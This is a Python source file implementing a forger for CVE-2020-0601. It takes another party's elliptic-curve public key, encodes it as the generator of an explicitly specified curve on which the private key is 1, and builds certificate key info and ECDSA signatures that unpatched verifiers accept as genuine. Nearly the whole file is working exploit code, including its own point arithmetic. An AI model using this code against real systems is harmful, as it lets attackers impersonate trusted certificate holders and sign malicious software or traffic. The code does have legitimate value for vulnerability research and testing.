"""Curves whose parameters stand in the certificate: the forger chooses the generator (CVE-2020-0601)."""

import hashlib
import secrets

from asn1crypto import algos, keys
from cryptography.hazmat.primitives.asymmetric import ec

_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
_A = _P - 3
_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
Point = tuple[int, int] | None


class ExplicitKey:
    """The public key of another, as the generator of a curve on which the private key is 1."""

    def __init__(self, stolen: ec.EllipticCurvePublicKey) -> None:
        numbers = stolen.public_numbers()
        self.point = (numbers.x, numbers.y)

    def public_info(self) -> keys.PublicKeyInfo:
        encoded = b"\x04" + b"".join(part.to_bytes(32, "big") for part in self.point)
        domain = keys.SpecifiedECDomain(
            {
                "version": 1,
                "field_id": {"field_type": "prime_field", "parameters": _P},
                "curve": {"a": _A.to_bytes(32, "big"), "b": _B.to_bytes(32, "big")},
                "base": encoded,
                "order": _N,
                "cofactor": 1,
            }
        )
        parameters = keys.ECDomainParameters("specified", domain)
        return keys.PublicKeyInfo(
            {
                "algorithm": {"algorithm": "ec", "parameters": parameters},
                "public_key": keys.ECPointBitString(encoded),
            }
        )

    def sign(self, data: bytes, digest: str) -> bytes:
        """ECDSA with the private key 1 and the stolen point as generator."""
        number = int.from_bytes(hashlib.new(digest, data).digest(), "big")
        once = secrets.randbelow(_N - 1) + 1
        product = _times(once, self.point)
        assert product is not None
        first = product[0] % _N
        second = pow(once, -1, _N) * (number + first) % _N
        return bytes(algos.DSASignature({"r": first, "s": second}).dump())


def _times(factor: int, point: Point) -> Point:
    total: Point = None
    while factor:
        if factor & 1:
            total = _plus(total, point)
        point, factor = _plus(point, point), factor >> 1
    return total


def _plus(one: Point, other: Point) -> Point:
    if one is None or other is None:
        return other if one is None else one
    if one[0] == other[0] and (one[1] + other[1]) % _P == 0:
        return None
    if one == other:
        slope = (3 * one[0] * one[0] + _A) * pow(2 * one[1], -1, _P)
    else:
        slope = (other[1] - one[1]) * pow(other[0] - one[0], -1, _P)
    x = (slope * slope - one[0] - other[0]) % _P
    return x, (slope * (one[0] - x) - one[1]) % _P
